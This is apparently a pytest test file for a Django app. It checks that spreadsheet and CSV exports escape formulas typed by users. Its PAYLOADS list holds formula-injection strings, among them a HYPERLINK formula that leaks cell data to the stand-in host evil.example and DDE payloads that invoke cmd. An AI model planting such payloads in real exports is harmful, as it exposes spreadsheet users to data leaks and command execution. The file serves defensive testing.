"""Exported spreadsheets never hand a spreadsheet program a formula typed by a user:
the project list export, the targets export and the admin's assessment exports."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessment.models import AssessmentItem
from common.formula_safe import formula_safe
from tests.assessment import builders

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_safe_keeps_numbers_and_plain_text():
    assert formula_safe("=1+1") == "'=1+1"
    assert formula_safe("-5") == "-5" and formula_safe("+3.5") == "+3.5"
    assert formula_safe("提高产品质量") == "提高产品质量"
    assert formula_safe(12) == 12


def xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]


def assert_no_formula(cells, payloads=PAYLOADS):
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells exported"
    texts = [str(c.value) for c in cells]
    for payload in payloads:
        assert any(t == "'" + payload for t in texts), f"{payload!r} not exported escaped"
        assert payload not in texts


@pytest.fixture
def hostile_projects(city):
    city.project1.name = PAYLOADS[0]
    city.project1.target = PAYLOADS[1]
    city.project1.save()
    city.project2.name = PAYLOADS[2]
    city.project2.target = PAYLOADS[3]
    city.project2.save()
    return city


def test_project_list_export_escapes_formulas(hostile_projects, client):
    client.force_login(hostile_projects.olivia)
    response = client.get(reverse("project_export"), {"year": 2010})
    assert response.status_code == 200
    assert_no_formula(xlsx_cells(response.content))


def test_targets_export_escapes_formulas(hostile_projects, client):
    client.force_login(hostile_projects.adam)
    response = client.get(reverse("admin:projects_project_export_targets"), {"year": 2010})
    assert response.status_code == 200
    assert_no_formula(xlsx_cells(response.content))


@pytest.fixture
def hostile_items(city):
    builders.bureau_scheme()
    items = list(AssessmentItem.objects.order_by("pk")[: len(PAYLOADS)])
    for item, payload in zip(items, PAYLOADS, strict=True):
        item.method = payload
        item.save(update_fields=["method"])
    return city


def admin_export(client, fmt: str) -> bytes:
    page = client.get("/admin/assessment/assessmentitem/export/")
    formats = dict((label, value) for value, label in page.context["form"].fields["format"].choices)
    fields = [f for f in page.context["form"].fields if f.startswith("itemresource_")]
    response = client.post(
        "/admin/assessment/assessmentitem/export/",
        {"format": formats[fmt], "resource": "0", **dict.fromkeys(fields, "on")},
    )
    assert response.status_code == 200, response.content[:300]
    return response.content


def test_admin_xlsx_export_escapes_formulas(hostile_items, client):
    client.force_login(hostile_items.adam)
    assert_no_formula(xlsx_cells(admin_export(client, "xlsx")))


def test_admin_csv_export_escapes_formulas(hostile_items, client):
    client.force_login(hostile_items.adam)
    text = admin_export(client, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells and payload not in cells
